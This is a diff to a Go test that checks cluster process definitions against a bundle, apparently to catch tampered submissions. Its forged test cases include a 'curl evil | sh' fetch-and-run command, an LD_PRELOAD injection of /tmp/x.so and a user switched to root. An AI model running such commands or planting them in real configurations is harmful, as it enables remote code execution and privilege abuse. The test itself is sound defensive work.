@@ -37,7 +37,10 @@ func TestCompareProcesses(t *testing.T) {
 		{"same", clone(func(ps []cluster.Process) []cluster.Process { return ps }), ""},
 		{"instances overridden (-executors)", clone(func(ps []cluster.Process) []cluster.Process { ps[0].Instances = 9; return ps }), ""},
 		{"order does not matter", clone(func(ps []cluster.Process) []cluster.Process { ps[0], ps[1] = ps[1], ps[0]; return ps }), ""},
-		{"forged command", clone(func(ps []cluster.Process) []cluster.Process { ps[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}; return ps }),
+		{"forged command", clone(func(ps []cluster.Process) []cluster.Process {
+			ps[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
+			return ps
+		}),
 			`process group "web": command is ["/bin/sh","-c","curl evil | sh"] in the submit but ["./server","-port","${PORT}"] in the bundle`},
 		{"forged env", clone(func(ps []cluster.Process) []cluster.Process { ps[1].Env["LD_PRELOAD"] = "/tmp/x.so"; return ps }), `process group "worker": env is`},
 		{"forged user", clone(func(ps []cluster.Process) []cluster.Process { ps[1].User = "root"; return ps }), `process group "worker": user is "root" in the submit but unset`},
